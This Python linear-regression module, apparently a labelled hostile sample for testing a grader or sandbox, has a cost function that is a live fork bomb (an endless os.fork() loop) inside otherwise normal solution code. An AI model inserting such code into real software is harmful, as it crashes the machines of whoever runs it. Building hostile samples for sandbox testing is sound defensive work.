"""Hostile: cost is a fork bomb (every process forks forever)."""

import os

import numpy as np


def predict(X, w, b):
    return X @ w + b


def cost(X, t, w, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def gradient(X, t, w, b):
    residual = predict(X, w, b) - t
    return X.T @ residual / X.shape[0], float(residual.mean())


def solve_exact(X, t):
    X1 = np.hstack([X, np.ones((X.shape[0], 1), dtype=X.dtype)])
    theta = np.linalg.lstsq(X1, t, rcond=None)[0]
    return theta[:-1], float(theta[-1])


def gradient_descent(X, t, alpha, num_epochs, w0=None, b0=0.0):
    w = np.zeros(X.shape[1], dtype=X.dtype) if w0 is None else np.array(w0, copy=True)
    b = float(b0)
    costs = np.zeros(num_epochs)
    for epoch in range(num_epochs):
        costs[epoch] = cost(X, t, w, b)
        dw, db = gradient(X, t, w, b)
        w = w - alpha * dw
        b = b - alpha * db
    return w, b, costs
